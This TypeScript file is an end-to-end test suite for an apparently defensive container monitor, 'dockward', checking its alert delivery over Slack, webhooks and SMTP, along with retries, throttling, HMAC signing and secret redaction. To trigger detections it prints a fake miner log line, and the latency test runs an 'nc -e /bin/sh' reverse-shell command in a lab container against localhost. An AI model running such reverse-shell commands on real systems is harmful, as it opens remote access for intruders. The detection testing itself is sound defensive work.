import assert from 'node:assert/strict';
import { createHmac, timingSafeEqual } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { SMTPServer } from 'smtp-server';
import { adminClient, engines, LAB, newNamespace } from '../support/engines';
import { execIn, removeContainers, runContainer } from '../support/containers';
import { DockwardProcess } from '../support/dockward';
import { fetchAll, waitForCount } from '../support/elasticsearch';
import { Receiver, type Received } from './receiver';

/** A log line only miners print: rule dockward-miner-log (critical) fires on it. */
const MINER = '[2026-11-28 14:05:43.363]  net      new job from 127.0.0.1:3333 diff 100001 algo rx/0';
const SLACK_TOKEN = 'T0SECRET/B0SECRET/xoxbSlackTokenNeverLogged';
const HMAC_KEY = 'hmac-key-from-a-file-5b0d9c';
const HEADER_TOKEN = 'Bearer header-token-from-env-77aa';

type Alertish = { rule: { id: string }; container: { id: string; name: string }; dockward: { alert: { group_id: string; count: number }; notification: { kind: string; count: number; route: string } } };
const body = (r: Pick<Received, 'json'>) => r.json as unknown as Alertish;

describe('notifications end to end (real dockerd and Elasticsearch, local receivers)', () => {
  const { docker } = engines();
  const es = adminClient();
  const ns = newNamespace('ntf');
  let dw: DockwardProcess;
  const slack = new Receiver();
  // Per message (group and kind): 429 with Retry-After: 2, then 500, then 200.
  const tries = new Map<string, number>();
  const retry = new Receiver((r) => {
    const key = `${body(r).dockward.alert.group_id}/${body(r).dockward.notification.kind}`;
    const n = tries.get(key) ?? 0;
    tries.set(key, n + 1);
    return n === 0 ? { status: 429, headers: { 'retry-after': '2' }, body: 'slow down' } : n === 1 ? { status: 500, body: 'oops' } : { status: 200, body: 'ok' };
  });
  const throttled = new Receiver();
  const dead = new Receiver(undefined, 'blackhole');
  const signed = new Receiver();
  const latency = new Receiver();
  const mails: Array<{ from: string; to: string[]; raw: string; user?: string }> = [];
  const smtp = new SMTPServer({
    secure: false,
    disabledCommands: ['STARTTLS'],
    allowInsecureAuth: true,
    authMethods: ['PLAIN', 'LOGIN'],
    onAuth(auth, _session, cb) {
      if (auth.username === 'dockward' && auth.password === 'smtp-pass-from-file') return cb(null, { user: auth.username });
      cb(new Error('bad credentials'));
    },
    onData(stream, session, cb) {
      let raw = '';
      stream.on('data', (c: Buffer) => (raw += c.toString()));
      stream.on('end', () => {
        mails.push({ from: session.envelope.mailFrom ? session.envelope.mailFrom.address : '', to: session.envelope.rcptTo.map((r) => r.address), raw, user: session.user as string | undefined });
        cb();
      });
    },
  });
  const secrets = mkdtempSync(join(tmpdir(), 'dw-secrets-'));

  const miner = (name: string, scenario: string, cmd = `echo "${MINER}"; sleep 300`) =>
    runContainer(docker, { name: `${ns}-${name}`, cmd: ['sh', '-c', `sleep 1; ${cmd}`], labels: { scenario } });

  before(async () => {
    await Promise.all([slack, retry, throttled, dead, signed, latency].map((r) => r.start()));
    await new Promise<void>((resolve) => smtp.listen(0, '127.0.0.1', resolve));
    const smtpPort = (smtp.server.address() as AddressInfo).port;
    writeFileSync(join(secrets, 'hmac'), HMAC_KEY + '\n');
    writeFileSync(join(secrets, 'smtp'), 'smtp-pass-from-file\n');
    const route = (name: string, dest: string, extra = '') => `notify.routes.${name}={destinations: [${dest}], match: {labels: {scenario: ${name}}}${extra}}`;
    const fast = 'backoff_initial: 300ms, backoff_max: 2s';
    dw = DockwardProcess.run({
      namespace: ns,
      env: { DW_TEST_SLACK_URL: `${slack.url}/services/${SLACK_TOKEN}`, DW_TEST_HEADER: HEADER_TOKEN },
      sets: [
        'detect.window=1s',
        'collectors.processes.enabled=false',
        'notify.kibana_url=http://127.0.0.1:5601',
        'notify.destinations.slack={type: slack, url: {env: DW_TEST_SLACK_URL}}',
        `notify.destinations.retry={type: webhook, url: "${retry.url}/hook", ${fast}}`,
        `notify.destinations.throttled={type: webhook, url: "${throttled.url}/hook"}`,
        `notify.destinations.dead={type: webhook, url: "${dead.url}/hook", timeout: 1s, max_attempts: 2, ${fast}, down_after: 2}`,
        `notify.destinations.signed={type: webhook, url: "${signed.url}/hook", secret: {file: "${join(secrets, 'hmac')}"}, headers: {Authorization: "env:DW_TEST_HEADER", X-Team: payments}}`,
        `notify.destinations.latency={type: webhook, url: "${latency.url}/hook"}`,
        `notify.destinations.mail={type: email, host: 127.0.0.1, port: ${smtpPort}, starttls: never, username: dockward, password: {file: "${join(secrets, 'smtp')}"}, from: dockward@test.local, to: [oncall@test.local]}`,
        route('slack', 'slack', ', group_window: 8s'),
        route('retry', 'retry'),
        route('throttle', 'throttled', ', throttle: {max: 2, per: 1m}'),
        route('dead', 'dead'),
        route('hmac', 'signed'),
        route('email', 'mail'),
        route('latency', 'latency'),
      ],
    });
    await dw.waitFor(/dockward running/);
  });
  after(async () => {
    await dw?.kill();
    if (process.env.DWTEST_LOG_DIR) writeFileSync(join(process.env.DWTEST_LOG_DIR, `${ns}.log`), dw.log);
    await removeContainers(docker, ns);
    await Promise.all([slack, retry, throttled, dead, signed, latency].map((r) => r.stop()));
    await new Promise((r) => smtp.close(() => r(undefined)));
    await es.close();
  });

  it('100 repeats of one alert: one Slack message with the required fields, then one summary with the count', async () => {
    const { id } = await miner('slack', 'slack', `for i in $(seq 1 100); do echo "${MINER} $i"; sleep 0.03; done; sleep 300`);
    await slack.waitFor((g) => g.length >= 2, 30_000, 'message and summary');
    await new Promise((r) => setTimeout(r, 2000)); // nothing more may follow
    assert.equal(slack.got.length, 2, JSON.stringify(slack.got.map((g) => g.json.text)));
    const [first, summary] = slack.got.map((g) => g.json as { text: string; attachments: Array<{ blocks: Array<{ type: string; fields?: Array<{ text: string }>; elements?: Array<{ url: string }> }> }> });
    const fields = (m: typeof first) => m.attachments[0].blocks.find((b) => b.fields)!.fields!.map((f) => f.text).join('\n');
    assert.match(slack.got[0].path, /^\/services\//);
    for (const want of ['*Severity*\ncritical', '*Rule*\nMiner output in a container log (`dockward-miner-log`)', '*ATT&CK*\nT1496 Resource Hijacking', `*Container*\n${ns}-slack (\`dockward/busybox:1\`)`, '*Host*\n', '*Count*\n1', '*First seen*\n', '*Last seen*\n']) {
      assert.ok(fields(first).includes(want), `missing ${JSON.stringify(want)} in\n${fields(first)}`);
    }
    assert.match(fields(summary), /\*Count\*\n100 \(99 since the last message\)/);
    assert.match(summary.text, /^Repeated 99 more times/);
    // The detector alone wrote more than two alert documents (its window is 1 s): the route folded them.
    const alerts = await fetchAll<Alertish>(es, `logs-dockward.alert-${ns}`, { term: { 'container.id': id } });
    assert.ok(alerts.length > 2, `${alerts.length} alert documents`);
    assert.equal(Math.max(...alerts.map((a) => a.dockward.alert.count)) <= 100, true);
    const link = first.attachments[0].blocks.find((b) => b.type === 'actions')!.elements![0].url;
    assert.ok(link.startsWith('http://127.0.0.1:5601/app/discover#/'), link);
    // Under load the 1 s window makes several groups, each with its own first alert: the link names the first message's group, one of them.
    const groups = alerts.filter((a) => a.dockward.alert.count === 1).map((a) => a.dockward.alert.group_id);
    assert.ok(groups.some((g) => decodeURIComponent(link).includes(`dockward.alert.group_id:"${g}"`)), `${decodeURIComponent(link)} names none of ${groups.join(', ')}`);
  });

  it('429 with Retry-After, then 500, then 200: each message is delivered exactly once, after the wait asked for', async () => {
    await Promise.all([miner('retry-a', 'retry'), miner('retry-b', 'retry')]);
    await retry.waitFor((g) => g.filter((x) => x.status === 200).length >= 2, 30_000, 'two accepted messages');
    await new Promise((r) => setTimeout(r, 1500));
    const byKey = new Map<string, Received[]>();
    for (const g of retry.got) byKey.set(body(g).dockward.alert.group_id, [...(byKey.get(body(g).dockward.alert.group_id) ?? []), g]);
    assert.equal(byKey.size, 2);
    for (const [key, list] of byKey) {
      assert.deepEqual(list.map((x) => x.status), [429, 500, 200], key);
      assert.ok(list[1].at - list[0].at >= 1900, `Retry-After honoured: ${list[1].at - list[0].at} ms`);
      assert.ok(list[2].at - list[1].at >= 100, `backoff after the 500: ${list[2].at - list[1].at} ms`);
    }
  });

  it('the throttle caps a route: 5 incidents, 2 messages, 3 counted as throttled', async () => {
    await Promise.all([1, 2, 3, 4, 5].map((i) => miner(`thr-${i}`, 'throttle')));
    await waitForCount(es, `logs-dockward.alert-${ns}`, 5, 30_000, { term: { 'container.labels.scenario': 'throttle' } }, dw.alive);
    await new Promise((r) => setTimeout(r, 1500));
    assert.equal(throttled.got.length, 2);
    const m = await dw.metrics();
    assert.equal(m['dockward_notifications_total{destination=throttled,outcome=throttled}'], 3);
    assert.equal(m['dockward_notifications_total{destination=throttled,outcome=delivered}'], 2);
  });

  it('a dead receiver is logged in dockward\'s own stream and never slows shipping', async () => {
    await Promise.all([1, 2, 3].map((i) => miner(`dead-${i}`, 'dead')));
    const lines = 20_000;
    const t0 = Date.now();
    const { id } = await runContainer(docker, { name: `${ns}-bulk`, cmd: ['sh', '-c', `sleep 1; seq 1 ${lines} | sed 's/^/line /'; sleep 300`] });
    const n = await waitForCount(es, `logs-dockward.container-${ns}`, lines, 60_000, { term: { 'container.id': id } }, dw.alive);
    const took = Date.now() - t0;
    assert.equal(n, lines);
    console.log(`# ${lines} lines in Elasticsearch ${took} ms after the container started, with a dead destination busy`);
    assert.ok(took < 20_000, `${took} ms`);
    const down = await waitForCount(es, `logs-dockward.internal-${ns}`, 1, 30_000, { term: { 'event.action': 'notify.destination.down' } }, dw.alive);
    assert.equal(down, 1, dw.log.split('\n').filter((l) => /notify/.test(l)).join('\n'));
    const failed = await fetchAll<{ message: string }>(es, `logs-dockward.internal-${ns}`, { term: { 'event.action': 'notify.delivery.failed' } });
    assert.ok(failed.length >= 2 && failed.every((f) => /no answer within 1000 ms/.test(f.message)), JSON.stringify(failed));
  });

  it('webhook: the alert document as JSON, an HMAC the receiver can verify, custom headers from env', async () => {
    const { id } = await miner('hmac', 'hmac');
    await waitForCount(es, `logs-dockward.alert-${ns}`, 1, 30_000, { term: { 'container.id': id } }, dw.alive);
    const [got] = await signed.waitFor((g) => g.length >= 1, 30_000, 'a signed webhook');
    const ts = String(got.headers['x-dockward-timestamp']);
    const expected = 'sha256=' + createHmac('sha256', HMAC_KEY).update(`${ts}.${got.body}`).digest('hex');
    const sig = String(got.headers['x-dockward-signature']);
    assert.ok(timingSafeEqual(Buffer.from(sig), Buffer.from(expected)), `${sig} != ${expected}`);
    assert.ok(Math.abs(Date.now() / 1000 - Number(ts)) < 60);
    assert.equal(got.headers.authorization, HEADER_TOKEN);
    assert.equal(got.headers['x-team'], 'payments');
    const doc = body(got);
    assert.equal(doc.container.id, id);
    assert.equal(doc.rule.id, 'dockward-miner-log');
    assert.equal(doc.dockward.notification.kind, 'alert');
    // The same alert document is in Elasticsearch.
    const stored = await fetchAll<Alertish>(es, `logs-dockward.alert-${ns}`, { term: { 'container.id': id } });
    assert.ok(stored.some((s) => s.dockward.alert.group_id === doc.dockward.alert.group_id));
  });

  it('email over SMTP, authenticated with a password from a file', async () => {
    await miner('mail', 'email');
    const end = Date.now() + 30_000;
    while (!mails.length && Date.now() < end) await new Promise((r) => setTimeout(r, 200));
    assert.equal(mails.length, 1, dw.log.slice(-2000));
    const m = mails[0];
    assert.equal(m.user, 'dockward');
    assert.deepEqual(m.to, ['oncall@test.local']);
    assert.match(m.raw, /Subject: \[dockward\] \[CRITICAL\] Miner output in a container log in/);
    assert.match(m.raw, new RegExp(`Container:\\s+${ns}-mail`));
    assert.match(m.raw, /ATT&CK:\s+T1496 Resource Hijacking/);
  });

  it('secrets never reach the console log nor dockward\'s log stream', async () => {
    const internal = await fetchAll(es, `logs-dockward.internal-${ns}`);
    const text = dw.log + JSON.stringify(internal);
    for (const s of [SLACK_TOKEN, 'xoxbSlackTokenNeverLogged', HMAC_KEY, HEADER_TOKEN, 'smtp-pass-from-file']) assert.ok(!text.includes(s), `leaked ${s}`);
  });

  it('time from the attacking exec to the message at the receiver', async () => {
    const samples: number[] = [];
    for (let i = 0; i < 10; i++) {
      const { id } = await runContainer(docker, { name: `${ns}-lat-${i}`, image: LAB, cmd: ['sleep', '300'], labels: { scenario: 'latency' } });
      const t0 = Date.now();
      await execIn(docker, id, ['nc', '-e', '/bin/sh', '127.0.0.1', '4444']);
      const got = await latency.waitFor((g) => g.some((x) => body(x).container.id === id && body(x).rule.id === 'dockward-reverse-shell-nc'), 30_000, `alert for ${id}`);
      samples.push(got.find((x) => body(x).container.id === id && body(x).rule.id === 'dockward-reverse-shell-nc')!.at - t0);
    }
    samples.sort((a, b) => a - b);
    const p = (q: number) => samples[Math.min(samples.length - 1, Math.ceil(q * samples.length) - 1)];
    console.log(`# exec → receiver: median ${p(0.5)} ms, p95 ${p(0.95)} ms (n=${samples.length}: ${samples.join(', ')})`);
    assert.ok(p(0.95) < 15_000);
  });
});
